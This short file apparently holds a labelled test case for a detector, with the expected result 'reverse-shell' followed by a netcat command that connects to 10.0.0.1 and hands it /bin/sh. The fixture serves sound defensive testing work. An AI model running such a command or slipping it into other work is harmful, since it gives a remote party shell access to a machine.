# expect: reverse-shell
/usr/bin/nc.traditional 10.0.0.1 9 -e /bin/sh
